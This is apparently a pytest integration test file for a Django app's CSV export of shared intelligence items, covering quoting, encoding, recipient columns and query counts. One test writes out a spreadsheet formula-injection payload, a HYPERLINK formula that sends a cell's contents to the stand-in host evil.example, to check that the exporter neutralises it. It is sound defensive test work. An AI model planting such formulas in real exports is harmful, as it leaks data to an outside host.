"""CSV export of intelligence items: one row per item, RFC 4180, spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from support_intel import intel_draft

from ceasefire.intel import exports, services
from ceasefire.intel.drafts import PlaceDraft
from ceasefire.intel.queries import visible_items

pytestmark = pytest.mark.integration


def _parsed(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def _column(row: list[str], name: str) -> str:
    return row[exports.CSV_HEADER.index(name)]


def test_csv_has_header_and_one_row_per_item(pk_liaison: Any) -> None:
    items = [services.save_item(pk_liaison, intel_draft(title=f"Sighting {n}"), share=True) for n in range(3)]

    rows = _parsed(exports.csv_response_bytes(visible_items(pk_liaison), member=pk_liaison))

    assert rows[0] == exports.CSV_HEADER
    assert sorted(_column(r, "public_code") for r in rows[1:]) == sorted(i.public_code for i in items)
    first = next(r for r in rows[1:] if _column(r, "public_code") == items[0].public_code)
    assert _column(first, "originator") == "PK" and _column(first, "tlp") == "AMBER"
    assert _column(first, "recipients") == "AF" and _column(first, "actors") == "Tehrik-e-Taliban Pakistan"
    assert _column(first, "places") == "Barmal (32.78000, 69.25000)"
    assert _column(first, "request_state") == "open" and _column(first, "body") == items[0].body
    assert dt.datetime.fromisoformat(_column(first, "created")) == items[0].created_at.replace(microsecond=0)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_neutralises_formulas(pk_liaison: Any, start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    services.save_item(
        pk_liaison,
        intel_draft(title=formula, body=f"{start}1+1", places=[PlaceDraft(f"{start}cmd", 32.78, 69.25)]),
        share=True,
    )

    (row,) = _parsed(exports.csv_response_bytes(visible_items(pk_liaison), member=pk_liaison))[1:]

    assert _column(row, "title") == "'" + formula
    assert _column(row, "body").startswith("'")
    assert _column(row, "places").startswith(f"'{start}cmd")


@pytest.mark.parametrize(
    ("cell", "shown"),
    [("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("Barmal -1", "Barmal -1"), ("", ""), ("2025-11-01", "2025-11-01")],
)
def test_neutralise_touches_only_cells_a_spreadsheet_would_evaluate(cell: str, shown: str) -> None:
    assert exports.neutralise(cell) == shown


def test_csv_is_plain_utf8_rfc4180(pk_liaison: Any) -> None:
    title = 'TTP "commanders", Barmal'
    body = "بیرمل کې د ټي ټي پي ډله\nSecond line"
    services.save_item(pk_liaison, intel_draft(title=title, body=body), share=True)

    content = exports.csv_response_bytes(visible_items(pk_liaison), member=pk_liaison)

    assert not content.startswith(b"\xef\xbb\xbf")  # no BOM
    assert content.endswith(b"\r\n") and content.count(b"\r\n") == 2  # the newline inside the body is quoted
    assert b'"TTP ""commanders"", Barmal"' in content
    (row,) = _parsed(content)[1:]
    assert (_column(row, "title"), _column(row, "body")) == (title, body)


def test_csv_names_people_of_red_items_and_parties_of_amber(pk_liaison: Any) -> None:
    services.save_item(pk_liaison, intel_draft(), share=True)
    services.save_item(
        pk_liaison, intel_draft(tlp="RED", recipients=[], people=["af-liaison", "tr-secretariat"]), share=True
    )

    rows = _parsed(exports.csv_response_bytes(visible_items(pk_liaison), member=pk_liaison))[1:]

    assert sorted((_column(r, "tlp"), _column(r, "recipients")) for r in rows) == [
        ("AMBER", "AF"),
        ("RED", "af-liaison; tr-secretariat"),
    ]


def test_csv_rows_query_count_independent_of_rows(pk_liaison: Any) -> None:
    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as captured:
            list(exports.csv_rows(visible_items(pk_liaison), member=pk_liaison))
        return len(captured)

    services.save_item(pk_liaison, intel_draft(), share=True)
    one = queries_for_export()
    for n in range(4):
        services.save_item(pk_liaison, intel_draft(title=f"Sighting {n}"), share=True)
    assert queries_for_export() == one
